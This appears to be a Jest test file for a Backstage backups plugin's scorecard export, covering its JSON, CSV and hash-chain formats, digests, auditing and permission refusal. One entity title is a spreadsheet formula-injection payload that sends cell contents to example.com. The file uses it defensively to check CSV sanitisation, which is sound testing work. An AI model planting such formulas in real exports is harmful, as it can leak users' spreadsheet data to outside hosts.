import { createHash } from 'node:crypto';
import {
  createMockDirectory,
  mockServices,
} from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import {
  ScorecardExport,
  ScorecardPage,
} from 'backstage-plugin-backups-common';
import request from 'supertest';
import { copiedApp } from '../../../__testUtils__/manifests';
import {
  componentEntity,
  permissionsThat,
  startBackups,
} from '../../../__testUtils__/startBackups';
import { BASE } from '../../__testUtils__/routeUrl';

const NOW = '2026-08-22T10:00:00Z';
const COPIED = new Date('2026-08-22T09:30:00Z');
const FORMULA = '=HYPERLINK("https://example.com/?"&A1,"look")';

function digest(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

describe('the export', () => {
  const folder = createMockDirectory();

  async function start(permissions = permissionsThat(AuthorizeResult.ALLOW)) {
    folder.setContent({
      'all.json': JSON.stringify({
        kind: 'List',
        items: [
          ...copiedApp('radarr', COPIED),
          ...copiedApp('sonarr', COPIED),
          ...copiedApp('bazarr', new Date('2026-08-01T09:30:00Z')),
        ],
      }),
    });
    const audited: { eventId: string; meta?: unknown; outcome: string }[] = [];
    const auditor = mockServices.auditor.mock({
      createEvent: async ({ eventId }) => ({
        success: async options => {
          audited.push({ eventId, meta: options?.meta, outcome: 'success' });
        },
        fail: async () => {
          audited.push({ eventId, outcome: 'fail' });
        },
      }),
    });
    const sonarr = componentEntity('sonarr');
    const { server } = await startBackups({
      backups: {
        folders: [
          { cluster: 'home-1', path: folder.path, asOf: NOW, complete: true },
        ],
      },
      entities: [
        componentEntity('radarr'),
        componentEntity('bazarr'),
        { ...sonarr, metadata: { ...sonarr.metadata, title: FORMULA } },
      ],
      permissions,
      features: [auditor.factory],
    });
    return { server, audited };
  }

  it('has the numbers of the page for the same filter, and says what it was made from', async () => {
    const { server } = await start();
    const filter = 'verdict=protected&q=a';
    const page: ScorecardPage = (
      await request(server).get(`${BASE}/entities?${filter}`).expect(200)
    ).body;
    const response = await request(server)
      .get(`${BASE}/scorecard/export?${filter}&days=7`)
      .expect(200)
      .expect('content-disposition', /backups-2026-08-22\.json/);
    const { header, body }: ScorecardExport = response.body;
    expect(body.entities).toMatchObject(
      page.entities.map(({ sla, ...row }) => row),
    );
    expect(header).toMatchObject({
      now: page.now,
      clock: 'dump',
      coverage: page.coverage,
      query: 'verdict=protected&q=a',
      filter: { verdict: ['protected'], q: 'a' },
      scope: 'everything',
      requestedBy: 'user:default/mock',
      period: { days: 7, from: '2026-08-15', to: '2026-08-21' },
      ruleVersions: [{ version: '1', entities: body.entities.length }],
      sources: expect.arrayContaining([
        expect.objectContaining({ ageSeconds: 0, current: true }),
      ]),
    });
    expect(header.sha256).toBe(digest(JSON.stringify(body)));
  });

  it('writes a CSV whose digest is that of its table, and in which no name is a formula', async () => {
    const { server, audited } = await start();
    const { text: table } = await request(server)
      .get(`${BASE}/scorecard/export?format=csv&sort=name`)
      .expect(200)
      .expect('content-type', /text\/csv/);
    expect(table).toMatch(/^entity,title,owner,/);
    expect(table.trimEnd().split('\n')).toHaveLength(1 + 3);
    expect(table).toContain(`"'=HYPERLINK(`);
    expect(table).not.toMatch(/(^|,)"?[=+\-@\t]/m);
    expect(audited).toEqual([
      {
        eventId: 'scorecard-export',
        outcome: 'success',
        meta: {
          format: 'csv',
          query: 'sort=name',
          from: '2026-07-23',
          to: '2026-08-21',
          entities: 3,
          scope: 'everything',
          sha256: digest(table),
        },
      },
    ]);
  });

  it('is of any period that is over, and holds rules, drills and the table of the same instant', async () => {
    const { server } = await start();
    const { body: files } = await request(server)
      .get(
        `${BASE}/scorecard/export?format=files&from=2026-07-01&to=2026-09-30`,
      )
      .expect(200);
    // The portal has seen nothing before today, and says so.
    expect(files.header.period).toEqual({
      days: 52,
      from: '2026-07-01',
      to: '2026-08-21',
      observedDays: 0,
    });
    expect(files.header.csvSha256).toBe(digest(files.csv));
    expect(files.header.sha256).toBe(digest(JSON.stringify(files.body)));
    expect(files.body.drills).toEqual([]);
    expect(files.body.rules).toContainEqual(
      expect.objectContaining({
        entityRef: 'component:default/radarr',
        rule: 'covered',
        result: 'met',
      }),
    );
    const { body: refused } = await request(server)
      .get(`${BASE}/scorecard/export?from=2026-08-22`)
      .expect(400);
    expect(refused.error.message).toContain('no whole day that is over');
  });

  it('comes as a chain that is verified without the portal, and whose head is audited', async () => {
    const { server, audited } = await start();
    const chain = await request(server)
      .get(`${BASE}/scorecard/export?format=chain&sort=name`)
      .buffer()
      .parse((response, done) => {
        let text = '';
        response.on('data', chunk => {
          text += chunk;
        });
        response.on('end', () => done(null, text));
      })
      .expect(200)
      .expect('content-disposition', /backups-2026-08-22\.jsonl/);
    const lines = chain.body.trimEnd().split('\n');
    expect(JSON.parse(lines[0]).record).toMatchObject({
      requestedBy: 'user:default/mock',
    });
    expect(audited).toMatchObject([{ meta: { sha256: digest(lines.at(-1)) } }]);
    const control = lines
      .map((line: string) => JSON.parse(line))
      .find(({ record }: any) => record.id === 'A.8.13').record;
    expect(control).toMatchObject({
      framework: 'ISO/IEC 27001:2022',
      supports: expect.arrayContaining([
        {
          part: 'entities',
          sentence: 'Apps of the catalog with what was found of them: 3.',
        },
      ]),
      notShown: expect.stringContaining('The policy itself is not in it.'),
    });
  });

  it('is audited when it is refused, too', async () => {
    const { server, audited } = await start(
      permissionsThat(AuthorizeResult.DENY),
    );
    await request(server).get(`${BASE}/scorecard/export`).expect(403);
    expect(audited).toEqual([{ eventId: 'scorecard-export', outcome: 'fail' }]);
  });
});
